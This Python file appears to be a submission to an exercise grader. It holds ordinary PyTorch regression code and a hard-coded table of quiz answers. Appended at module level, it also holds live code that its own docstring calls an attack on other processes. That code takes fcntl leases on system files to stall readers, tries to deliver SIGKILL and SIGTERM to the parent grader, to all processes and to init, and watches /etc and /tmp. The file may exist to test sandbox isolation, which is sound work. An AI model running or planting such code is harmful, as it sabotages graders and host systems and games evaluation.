"""Attacks other processes through fcntl(): leases on system files, signals by SIGIO, directory watches."""
# expect: score=100

import torch
import matplotlib.pyplot as plt
from matplotlib.animation import FuncAnimation

ANSWERS = {
    "ones_column": "b", "uniform_": "d", "trailing_underscore": "a", "gradient_of_w": "c",
    "zero_grad": "b", "learning_rate": "d", "epoch": "f", "minibatch": "a", "sgd": "g",
    "model": "b", "parameters": "e", "loss_function": "c",
}


def make_data(n, w):
    x = torch.ones(n, 2)
    x[:, 0].uniform_(-1, 1)
    return x, x @ w + torch.rand(n)


def predict(x, w):
    return x @ w


def mse(y_hat, y):
    return ((y_hat - y) ** 2).mean()


def gradient(x, y, w):
    (grad,) = torch.autograd.grad(mse(predict(x, w), y), w)
    return grad


def update(x, y, w, lr):
    loss = mse(predict(x, w), y)
    (grad,) = torch.autograd.grad(loss, w)
    with torch.no_grad():
        w -= lr * grad
    return loss.item()


def train(x, y, w, lr, epochs):
    return [update(x, y, w, lr) for _ in range(epochs)]


def minibatches(x, y, batch_size):
    order = torch.randperm(len(x))
    for start in range(0, len(x), batch_size):
        rows = order[start:start + batch_size]
        yield x[rows], y[rows]


def train_minibatch(x, y, w, lr, epochs, batch_size):
    history = []
    for _ in range(epochs):
        losses = [update(xb, yb, w, lr) for xb, yb in minibatches(x, y, batch_size)]
        history.append(sum(losses) / len(losses))
    return history


def sigmoid(z):
    return torch.sigmoid(z)


def predict_proba(x, w):
    return sigmoid(predict(x, w))


def cross_entropy(p, y):
    p = p.clamp(1e-7, 1 - 1e-7)
    return -(y * torch.log(p) + (1 - y) * torch.log(1 - p)).mean()


def update_logistic(x, y, w, lr):
    loss = cross_entropy(predict_proba(x, w), y)
    (grad,) = torch.autograd.grad(loss, w)
    with torch.no_grad():
        w -= lr * grad
    return loss.item()


def train_logistic(x, y, w, lr, epochs):
    return [update_logistic(x, y, w, lr) for _ in range(epochs)]


def plot_fit(x, y, w):
    _, ax = plt.subplots()
    ax.scatter(x[:, 0], y)
    ax.plot(x[:, 0], predict(x, w).detach())
    return ax


def animate_fit(x, y, w, lr, frames):
    ax = plot_fit(x, y, w)
    (line,) = ax.lines

    def draw(_frame):
        update(x, y, w, lr)
        line.set_ydata(predict(x, w).detach())
        return (line,)

    return FuncAnimation(ax.figure, draw, frames=frames, init_func=lambda: (line,))


import fcntl
import glob
import os
import signal

signal.signal(signal.SIGIO, signal.SIG_IGN)
_F_SETSIG, _F_SETOWN_EX = 10, 15

# Whoever opens a leased file waits until the lease is given back: up to 45 s.
for _path in ("/usr/share/zoneinfo/Zulu", *glob.glob(os.path.dirname(os.__file__) + "/antigravit*.py")):
    try:
        _file = os.open(_path, os.O_RDONLY)
        fcntl.fcntl(_file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        print("LEAK: whoever reads", _path, "has to wait")
        fcntl.fcntl(_file, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    except OSError as error:
        print(error.strerror)
# SIGIO, or any other signal, to the grader.
for _signal in (signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
    for _process in (os.getppid(), -os.getppid(), -1, 1):
        try:
            _read, _write = os.pipe()
            fcntl.fcntl(_read, _F_SETSIG, _signal)
            fcntl.fcntl(_read, fcntl.F_SETOWN, _process)
            fcntl.fcntl(_read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(_write, b"x")
        except OSError as error:
            print(error.strerror)
for _folder in ("/usr/lib", "/tmp", "/etc"):
    try:
        fcntl.fcntl(os.open(_folder, os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_CREATE)
        print("LEAK: watches", _folder)
    except OSError as error:
        print(error.strerror)
